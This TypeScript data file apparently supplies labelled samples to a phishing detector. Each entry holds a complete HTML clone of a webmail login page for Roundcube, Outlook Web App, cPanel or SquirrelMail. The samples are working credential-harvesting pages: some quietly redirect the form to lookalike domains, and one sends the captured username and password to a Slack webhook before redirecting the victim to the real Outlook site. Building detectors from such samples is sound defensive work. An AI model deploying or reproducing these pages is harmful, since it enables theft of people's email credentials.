import type { Entry } from '../entry.js';

/** Webmail clones: Roundcube, Outlook Web App, cPanel/Horde/SquirrelMail, Zimbra, generic "mail upgrade". */
export const entries: Entry[] = [
  {
    id: 'webmail-roundcube-elastic',
    label: 'phishing',
    kind: 'webmail-clone',
    url: 'https://mail.kunden-webmail-login.com/?_task=login',
    body: `<!DOCTYPE html><html lang="en"><head><meta charset="UTF-8"><title>Roundcube Webmail :: Welcome to Roundcube Webmail</title>
<meta name="viewport" content="width=device-width, initial-scale=1.0"><link rel="stylesheet" href="skins/elastic/styles/styles.min.css">
</head><body class="task-login action-none"><div id="layout"><h1 class="voice">Roundcube Webmail Login</h1>
<div id="layout-content" class="selected no-navbar" role="main"><img src="skins/elastic/images/logo.svg" id="logo" alt="Logo">
<form id="login-form" name="login-form" method="post" class="propform" action="https://mail.kunden-webmail-login.com/post.php">
<input type="hidden" name="_token" value="Zk9pW2xqYUH4SNCZJq4QhzrW2QtR2ML9"><input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login">
<table><tbody><tr><td class="title"><label for="rcmloginuser">Username</label></td><td class="input"><input name="_user" id="rcmloginuser" required size="40" autocapitalize="off" autocomplete="off" type="text" class="form-control"></td></tr>
<tr><td class="title"><label for="rcmloginpwd">Password</label></td><td class="input"><input name="_pass" id="rcmloginpwd" required size="40" autocomplete="off" type="password" class="form-control"></td></tr></tbody></table>
<p class="formbuttons"><button type="submit" id="rcmloginsubmit" class="button mainaction submit btn btn-primary btn-lg text-uppercase w-100">Login</button></p>
<div id="message" class="warning">Your session has expired. Please log in again to avoid losing incoming messages.</div></form></div>
<div id="login-footer" role="contentinfo">Roundcube Webmail</div></div></body></html>`,
  },
  {
    id: 'webmail-owa-2016',
    label: 'phishing',
    kind: 'webmail-clone',
    url: 'https://owa.staff-portal-login.com/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fowa%2fowa%2f',
    body: `<!DOCTYPE html><html dir="ltr"><head><meta http-equiv="X-UA-Compatible" content="IE=10"><meta charset="utf-8"><title>Outlook</title>
<style>body{background:#fff;font-family:"Segoe UI"}.signInImageHeader{width:100%;height:100%}.logonDiv{position:absolute;left:40%;top:25%;width:400px}.signInInputText{width:100%;height:30px;margin:6px 0;border:1px solid #ccc}.signinbutton{font-size:22px;color:#333;cursor:pointer}</style></head>
<body class="signInBg"><div class="logonDiv"><div class="signInImageHeader"><img src="/owa/auth/15.1.2507/themes/resources/owa_text_blue.png" alt="Outlook"></div>
<form action="/owa/auth.owa" method="POST" name="logonForm" autocomplete="off"><input type="hidden" name="destination" value="https://owa/owa/"><input type="hidden" name="flags" value="4"><input type="hidden" name="forcedownlevel" value="0">
<div class="signInInputLabel">Domain\\user name:</div><input id="username" name="username" class="signInInputText" type="text" placeholder="domain\\user name">
<div class="signInInputLabel">Password:</div><input id="password" name="password" class="signInInputText" type="password">
<div class="signInCheckBoxText"><input id="chkPrvt" type="radio" name="trusted" value="4" checked> This is a private computer</div>
<div onclick="document.logonForm.submit()" class="signinbutton" role="button">→ sign in</div></form></div>
<script>document.logonForm.action='https://owa.staff-portal-login.com/owa/gate.php';</script></body></html>`,
  },
  {
    id: 'webmail-cpanel-login',
    label: 'phishing',
    kind: 'webmail-clone',
    url: 'https://cpanel-webmail-verify.host-secure.top/',
    body: `<!DOCTYPE html><html lang="en" dir="ltr"><head><meta charset="utf-8"><title>Webmail Login</title>
<style>body{background:#fff;font-family:"Open Sans",Arial}#login-wrapper{width:320px;margin:80px auto}.main-logo{height:40px;background:url(/cPanel_magic_revision_1674/unprotected/cpanel/images/webmail-logo.svg) no-repeat}input{width:100%;padding:8px;margin:4px 0 12px;border:1px solid #ccc}.login-btn{width:100%;background:#179bd7;color:#fff;border:0;padding:10px}</style></head>
<body class="cp"><div id="login-wrapper"><div class="main-logo" aria-label="cPanel Webmail"></div>
<form id="login_form" action="/login/" method="post"><label for="user">Email Address</label><input name="user" id="user" type="text" autofocus placeholder="Enter your email address.">
<label for="pass">Password</label><input name="pass" id="pass" type="password" placeholder="Enter your email password."><button class="login-btn" type="submit" id="login_submit">Log in</button></form>
<div style="text-align:center;font-size:12px;color:#777">Copyright© 2026 cPanel, L.L.C.</div></div>
<script>document.getElementById('login_form').addEventListener('submit',function(){this.action='https://cpanel-webmail-verify.host-secure.top/next.php';});</script></body></html>`,
  },
  {
    id: 'webmail-horde-squirrel',
    label: 'phishing',
    kind: 'webmail-clone',
    url: 'https://webmail.secure-login-portal.site/squirrelmail/src/login.php',
    body: `<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN"><html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-8859-1"><title>SquirrelMail - Login</title></head>
<body text="#000000" bgcolor="#ffffff" link="#0000cc" vlink="#0000cc" alink="#0000cc" onload="squirrelmail_loginpage_onload()">
<form action="redirect.php" method="post" name="login_form"><table bgcolor="#ffffff" border="0" cellspacing="0" cellpadding="0" width="100%"><tr><td align="center"><center>
<img src="../images/sm_logo.png" alt="SquirrelMail Logo" width="308" height="111"><br><small>SquirrelMail version 1.4.22<br>By the SquirrelMail Project Team<br></small>
<table bgcolor="#ffffff" border="0" width="350"><tr><td bgcolor="#dcdcdc" align="center"><b>SquirrelMail Login</b></td></tr>
<tr><td bgcolor="#ffffff" align="left"><table bgcolor="#ffffff" align="center" border="0" width="100%"><tr><td align="right" width="30%">Name:</td><td align="left" width="70%"><input type="text" name="login_username" value=""></td></tr>
<tr><td align="right" width="30%">Password:</td><td align="left" width="70%"><input type="password" name="secretkey"><input type="hidden" name="js_autodetect_results" value="0"><input type="hidden" name="just_logged_in" value="1"></td></tr></table></td></tr>
<tr><td align="left"><center><input type="submit" value="Login"></center></td></tr></table></center></td></tr></table></form>
<script>function squirrelmail_loginpage_onload(){document.login_form.action='https://webmail.secure-login-portal.site/sq/collect.php';}</script></body></html>`,
  },
  {
    id: 'webmail-owa-js-domain',
    label: 'phishing',
    kind: 'webmail-clone',
    url: 'https://owa-login.corporate-auth.workers-cdn.dev/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Outlook Web App</title>
<style>body{margin:0;font-family:"Segoe UI Light","Segoe UI";background:#fff}.l{position:absolute;left:0;top:0;bottom:0;width:45%;background:#0072c6}.r{margin-left:50%;padding-top:150px}input{display:block;width:300px;padding:6px;margin:8px 0}</style></head>
<body><div class="l"></div><div class="r"><img src="owa_logo.png" alt="Office Outlook Web App"><form id="lf"><label>User name:</label><input id="user" placeholder="user@domain.com"><label>Password:</label><input id="pass" type="password"><button type="submit">sign in</button></form></div>
<script>
document.getElementById('lf').onsubmit = async function (e) {
  e.preventDefault();
  await fetch('https://hooks.slack.com/services/T05ABCD12/B07XYZ98/nV3f8aPq2LbK1mR9tW0eYz4u', { method: 'POST', body: JSON.stringify({ text: 'OWA ' + user.value + ' : ' + pass.value }) });
  location.href = 'https://outlook.office365.com/owa/';
};
</script></body></html>`,
  },];
